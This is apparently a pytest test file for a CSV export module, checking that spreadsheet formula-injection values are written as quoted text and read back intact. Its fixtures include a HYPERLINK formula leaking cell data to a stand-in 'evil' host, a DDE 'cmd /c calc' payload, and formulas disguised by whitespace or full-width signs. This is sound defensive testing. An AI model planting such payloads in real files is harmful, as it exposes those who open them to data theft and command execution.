from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nrm.exchange.fileformat import _cell, read, write


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text() -> None:
    assert _cell('=HYPERLINK("http://evil/?"&B2,"x")') == '\'=HYPERLINK("http://evil/?"&B2,"x")'
    assert _cell("+383 44 123 456") == "'+383 44 123 456"
    assert _cell("Ardita") == "Ardita"


def test_reading_the_file_back_gives_the_value_as_it_was() -> None:
    rows = read(b"a,b\n'=1+1,'+383 44\n'quoted,plain\n", "csv")
    assert rows == [{"a": "=1+1", "b": "+383 44"}, {"a": "'quoted", "b": "plain"}]


FORMULA = 'HYPERLINK("http://evil/?"&B2,"x")'
# What a spreadsheet skips before a formula, and the signs it reads as ASCII ones.
DISGUISED = {
    "leading space": " =" + FORMULA,
    "leading spaces and a newline": "  \n=" + FORMULA,
    "leading tab": "\t=" + FORMULA,
    "leading carriage return": "\r=" + FORMULA,
    "no-break space": "\u00a0=" + FORMULA,
    "ideographic space": "\u3000=" + FORMULA,
    "zero-width space": "\u200b=" + FORMULA,
    "byte-order mark": "\ufeff=" + FORMULA,
    "full-width equals": "\uff1d" + FORMULA,
    "small equals": "\ufe66" + FORMULA,
    "full-width plus": "\uff0b1+1",
    "full-width minus": "\uff0d1+1",
    "full-width at": "\uff20SUM(A1:A9)",
    "space then full-width equals": " \uff1d" + FORMULA,
    "pipe (DDE)": "|cmd /c calc",
    "percent": "%0A=1+1",
    "full-width percent": "\uff05=1+1",
}


@pytest.mark.parametrize("text", DISGUISED.values(), ids=DISGUISED.keys())
def test_a_formula_behind_blanks_controls_or_full_width_signs_is_written_as_text(text) -> None:
    content = write([{"prs_FirstName": text}], "csv")
    cell = next(csv.DictReader(io.StringIO(content.decode())))["prs_FirstName"]
    assert cell == "'" + text
    assert read(content, "csv")[0]["prs_FirstName"] == text


@pytest.mark.parametrize("text", ["Ardita", "a=b", " Ardita", "O'Neil", "'quoted", "", "   ",
                                  "１２３", "e-mail@example"])
def test_ordinary_text_is_written_as_it_is(text) -> None:
    assert _cell(text) == text


def test_a_value_that_itself_starts_with_a_quote_before_a_formula_survives_the_round_trip() -> None:
    content = write([{"prs_FirstName": "'=1+1"}, {"prs_FirstName": "' =1+1"}], "csv")
    cells = [row["prs_FirstName"] for row in csv.DictReader(io.StringIO(content.decode()))]
    assert cells == ["''=1+1", "'' =1+1"]
    assert [row["prs_FirstName"] for row in read(content, "csv")] == ["'=1+1", "' =1+1"]


@given(st.text(alphabet=st.sampled_from("'= +-@|%\t\r\n\u3000\uff1d\uff0ba1"), max_size=8))
def test_every_value_reads_back_as_it_was_written(text) -> None:
    content = write([{"prs_FirstName": text}], "csv")
    assert read(content, "csv")[0]["prs_FirstName"] == text


def test_a_carriage_return_inside_a_cell_cannot_start_a_row_of_its_own() -> None:
    content = write([{"prs_FirstName": "Ardita\r=HYPERLINK(\"http://evil/\")"}], "csv")
    assert b'"Ardita\r=HYPERLINK(""http://evil/"")"' in content
    lines = content.decode().split("\r\n")
    assert not any(line.startswith("=") for line in lines)
    assert read(content, "csv")[0]["prs_FirstName"] == "Ardita\r=HYPERLINK(\"http://evil/\")"
